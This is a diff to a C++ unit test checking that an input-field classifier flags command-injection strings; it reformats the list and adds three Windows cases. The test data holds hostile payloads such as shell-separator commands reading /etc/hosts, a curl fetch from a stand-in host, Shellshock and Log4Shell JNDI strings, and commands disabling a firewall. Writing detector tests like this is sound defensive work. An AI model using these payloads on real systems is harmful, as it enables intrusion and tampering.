@@ -74,11 +74,27 @@ TEST(FieldC9A12, LetsPlainMarkupPass) {
 }
 
 TEST(FieldA12, RefusesCommands) {
-  for (const std::string_view text :
-       {"; cat /etc/hosts", "| whoami", "&& ls -la", "`id`", "$(curl http://a.example/x)", "x; ping -c 3 127.0.0.1",
-        "() { :;}; echo x", "system('id');", "<!--#exec cmd=\"id\"-->", "<?php phpinfo(); ?>",
-        "${jndi:ldap://a.example/x}", "{{7*7}}", "a\n/bin/cat /tmp/x", "%0a id %0a", "& type C:\\x.txt",
-        "; c'a't /etc/hosts", "|/?i?/c?t /tmp/x", "curl${IFS}http://a.example"}) {
+  for (const std::string_view text : {"; cat /etc/hosts",
+                                      "| whoami",
+                                      "&& ls -la",
+                                      "`id`",
+                                      "$(curl http://a.example/x)",
+                                      "x; ping -c 3 127.0.0.1",
+                                      "() { :;}; echo x",
+                                      "system('id');",
+                                      "<!--#exec cmd=\"id\"-->",
+                                      "<?php phpinfo(); ?>",
+                                      "${jndi:ldap://a.example/x}",
+                                      "{{7*7}}",
+                                      "a\n/bin/cat /tmp/x",
+                                      "%0a id %0a",
+                                      "& type C:\\x.txt",
+                                      "& netsh firewall set opmode disable",
+                                      "| reg add HKLM\\x /v y /d 0",
+                                      "| sysinfo",
+                                      "; c'a't /etc/hosts",
+                                      "|/?i?/c?t /tmp/x",
+                                      "curl${IFS}http://a.example"}) {
     EXPECT_EQ(FamilyOf(text), Family::kCommand) << text << " " << JudgeField(text).score;
   }
 }
